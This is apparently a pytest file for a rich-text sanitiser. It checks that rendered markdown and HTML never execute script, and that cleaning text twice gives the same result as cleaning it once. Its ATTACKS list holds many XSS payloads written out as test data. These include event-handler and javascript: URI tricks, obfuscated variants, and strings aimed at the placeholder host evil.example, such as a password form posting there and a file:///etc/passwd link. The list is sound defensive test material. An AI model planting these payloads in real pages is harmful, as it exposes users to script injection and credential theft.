"""Rich text never executes, and reads the same after being stored."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cantiere.foundation.core import richtext

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](x 'onerror=alert(1)')",
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://e.example" onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<a\nhref='javascript:alert(1)'\n>x</a>",
    "<x onclick=alert(1)>x",
    "\u202etxt.exe",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w-]*)([^>]*)>")


def assert_harmless(html: str) -> None:
    for tag, rest in TAG.findall(html):
        assert tag in richtext.TAGS, html
        names = {name.lower() for name in re.findall(r"([\w-]+)\s*=\s*\"", rest)}
        assert names <= {"href", "rel", "scope"}, html
        for address in re.findall(r'href="([^"]*)"', rest):
            assert re.match(r"(https?:|mailto:|tel:|[^:]*$|/|#|\?)", address), html
    assert not richtext.UNSEEN.search(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_executes(attack: str) -> None:
    assert_harmless(richtext.render(attack))
    assert_harmless(richtext.render(f"Prima {attack}\n\n{attack} dopo"))


@given(st.text(alphabet=st.sampled_from(list("<>\"'&#;:/()[]!`*_=\\\n\t javscriptonerlhmg0")), max_size=60))
def test_no_mixture_executes(text: str) -> None:
    assert_harmless(richtext.render(text))


@given(st.text(max_size=200))
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    once = richtext.clean(text)
    assert richtext.clean(once) == once
    assert richtext.render(once) == richtext.render(text)


def test_what_people_write_is_shown() -> None:
    html = richtext.render(
        "# Titolo\n\nTesto **forte** e [un link](https://example.org/a?b=1&c=2).\n\n- uno\n- due"
    )
    assert html == (
        "<h3>Titolo</h3>\n<p>Testo <strong>forte</strong> e "
        '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow ugc">un link</a>.</p>\n'
        "<ul>\n<li>uno</li>\n<li>due</li>\n</ul>\n"
    )


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("", ""),
        ("**Uno**\n\n- due", "Uno due"),
        ("Uno\n\ndue", "Uno due"),
        ("a < b & c", "a < b & c"),
        ("# Titolo\n\nTesto", "Titolo Testo"),
        ("| a | b |\n|---|---|\n| c | d |", "a b c d"),
    ],
)
def test_the_words_alone(source: str, words: str) -> None:
    assert richtext.plain(source) == words


def test_line_ends_and_letters_are_composed() -> None:
    assert richtext.clean(" perche\u0301\r\nno\r ") == "perché\nno"
